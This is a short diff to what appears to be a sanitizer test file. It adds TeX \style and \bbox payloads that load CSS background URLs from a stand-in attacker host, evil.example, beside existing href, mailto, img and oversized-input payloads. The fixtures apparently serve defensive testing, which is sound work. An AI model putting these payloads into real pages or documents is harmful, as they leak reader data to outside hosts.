@@ -115,6 +115,8 @@ STAYS = {
     "groups in a group of TeX": "\\href{{//evil.example/?{{a}}{{{{b}} {}}}{{x}}",
     "an escaped brace in a group of TeX": "\\href{{//evil.example/?\\}} {}}}{{x}}",
     "what a mail says in TeX": "\\href{{mailto:eve@evil.example?body=as said {}}}{{x}}",
+    "a style of TeX": "$\\style{{background:url(//evil.example/\\20 {})}}{{x}}$",
+    "options with a style of TeX": "$\\bbox[background:url(//evil.example/{{}}\\20 {})]{{x}}$",
     "a long value": '<img src="//evil.example/?' + "a b=c " * 3_000 + '{}">',
     "tags without end": "<a " * 5_000 + 'href="//evil.example/? {}',
 }
